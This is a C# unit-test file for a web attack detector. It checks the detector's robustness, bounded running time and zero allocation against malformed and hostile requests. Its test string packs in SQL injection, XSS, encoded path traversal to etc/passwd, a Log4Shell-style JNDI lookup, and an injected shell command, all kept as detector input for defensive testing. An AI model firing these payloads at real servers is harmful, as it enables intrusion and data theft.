using System.Text;
using Noroshi.Sensor.Detectors.Web;
using Noroshi.Sensor.Detectors.Web.Decoding;
using Noroshi.Sensor.Logs;

namespace Noroshi.Tests.Sensor.Detectors.Web;

/// <summary>Whatever bytes come, the judge answers, in bounded time and without allocating.</summary>
public sealed class HostileInputTests
{
    private const string Attack = "/a?x=1%27%20UNION/**/SELECT%201,2--%20-&y=%3Cscript%3Ealert(1)%3C/script%3E&z=..%c0%af..%u2215etc/passwd&w=${${::-j}ndi:ldap://x}&v=;cat${IFS}/e'tc'/hosts&&#x27;\\u{27}\\x2";

    [Fact]
    public void Judge_CutAtEveryByte_NeverThrows()
    {
        var judge = Judged.NewJudge();
        for (var length = 0; length <= Attack.Length; length++)
        {
            Judged.Of(judge, Attack[..length], Attack[..length], Attack[..length]);
            Judged.Of(judge, Attack[length..], Attack[length..], Attack[length..]);
        }
    }

    [Fact]
    public void Judge_EveryByteInEveryPlace_NeverThrows()
    {
        var judge = Judged.NewJudge();
        var bytes = Encoding.UTF8.GetBytes("/a?x=%27%20or%201=1&<b c=d>");
        for (var at = 0; at < bytes.Length; at++)
        {
            var kept = bytes[at];
            for (var b = 0; b < 256; b++)
            {
                bytes[at] = (byte)b;
                judge.Judge(new LogRecord { Target = bytes, UserAgent = bytes, Referer = bytes });
            }
            bytes[at] = kept;
        }
    }

    [Theory]
    [InlineData("%")]
    [InlineData("'")]
    [InlineData("(")]
    [InlineData("<")]
    [InlineData("&")]
    [InlineData("{{")]
    [InlineData("/*")]
    [InlineData("../")]
    [InlineData("$(")]
    [InlineData("' or ")]
    [InlineData("&#x27;")]
    [InlineData("<a on=")]
    [InlineData("/*a*/")]
    [InlineData("<!--")]
    [InlineData("\0")]
    [InlineData("\u00c0\u00ae")]
    public void Judge_TenMegabytesOfOneThing_IsBounded(string piece)
    {
        var target = Encoding.Latin1.GetBytes("/a?x=" + string.Concat(Enumerable.Repeat(piece, 10_000_000 / piece.Length)));
        var judge = Judged.NewJudge();
        // What lies beyond is not looked at: the same is said without it.
        Assert.Equal(judge.Judge(new LogRecord { Target = target.AsSpan(0, TextDecoder.MaxBytes) }), judge.Judge(new LogRecord { Target = target }));
        Assert.Equal(judge.Judge(new LogRecord { UserAgent = target.AsSpan(0, WebJudge.MaxFieldBytes) }), judge.Judge(new LogRecord { UserAgent = target }));
        Assert.Equal(judge.Judge(new LogRecord { Referer = target.AsSpan(0, WebJudge.MaxFieldBytes) }), judge.Judge(new LogRecord { Referer = target }));
    }

    [Fact]
    public void Judge_AfterWarmUp_AllocatesNothing()
    {
        var judge = Judged.NewJudge();
        (byte[] Target, byte[] Agent, byte[] Referer)[] lines = [.. Lines().Select(l => (Encoding.UTF8.GetBytes(l.Target), Encoding.UTF8.GetBytes(l.Agent), Encoding.UTF8.GetBytes(l.Referer)))];
        long Round()
        {
            var before = GC.GetAllocatedBytesForCurrentThread();
            foreach (var (target, agent, referer) in lines) judge.Judge(new LogRecord { Target = target, UserAgent = agent, Referer = referer });
            return GC.GetAllocatedBytesForCurrentThread() - before;
        }
        for (var i = 0; i < 50; i++) Round();
        Assert.Equal(0, Enumerable.Range(0, 10).Min(_ => Round()));
    }

    [Fact]
    public void Judge_ManyAgents_KeepsVerdictsApart()
    {
        var judge = Judged.NewJudge();
        for (var round = 0; round < 2; round++)
        {
            for (var i = 0; i < 60_000; i++)
            {
                var isAttack = i % 1000 == 0;
                var verdict = Judged.Of(judge, "/", isAttack ? $"x{i}' or '1'='1" : $"Mozilla/5.0 (X11; Linux x86_64) Chrome/{i}.0", "");
                Assert.Equal(isAttack, verdict.Tier != Tier.None);
            }
        }
    }

    private static IEnumerable<(string Target, string Agent, string Referer)> Lines()
    {
        yield return ("/index.html", Judged.Browser, "https://example.org/");
        yield return (Attack, Attack, Attack);
        for (var i = 0; i < 200; i++) yield return ($"/item?id={i}&q=%27{i}%20or%20a", $"{Judged.Browser} {i}", $"https://example.org/?p={i}%20a(b)");
    }
}
